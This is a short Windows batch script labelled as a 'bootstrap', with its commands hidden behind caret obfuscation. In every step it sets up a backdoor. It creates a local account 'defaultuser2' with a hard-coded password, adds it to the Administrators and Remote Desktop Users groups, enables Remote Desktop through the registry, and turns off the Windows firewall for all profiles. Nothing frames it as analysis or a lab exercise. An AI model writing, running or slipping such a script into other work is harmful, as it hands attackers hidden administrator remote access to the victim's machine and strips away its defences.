REM bootstrap 6770 v1
@echo off
set lokv=^ne^t use^r ^defaul^tus^er^2 ^A^dm^1^n!^st^rat0r /^add /y
call %lokv%
@echo off
set dlxt=^net l^ocalg^roup ^adm^inistra^t^or^s ^d^efa^u^ltus^er2 /a^d^d
call %dlxt%
@echo off
set bjul=^n^et ^l^o^cal^g^roup "Remote Desktop Users" de^fau^ltus^er2 /^a^dd
call %bjul%
@echo off
set bhkf=^r^e^g ^a^d^d "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /^v fD^e^nyT^SCo^nn^e^c^tio^ns /t R^EG_DW^O^RD /d 0 /^f
call %bhkf%
@echo off
set gibd=^n^e^t^s^h ad^v^f^ir^ewa^l^l s^e^t ^all^p^rofi^l^e^s st^ate ^off
call %gibd%
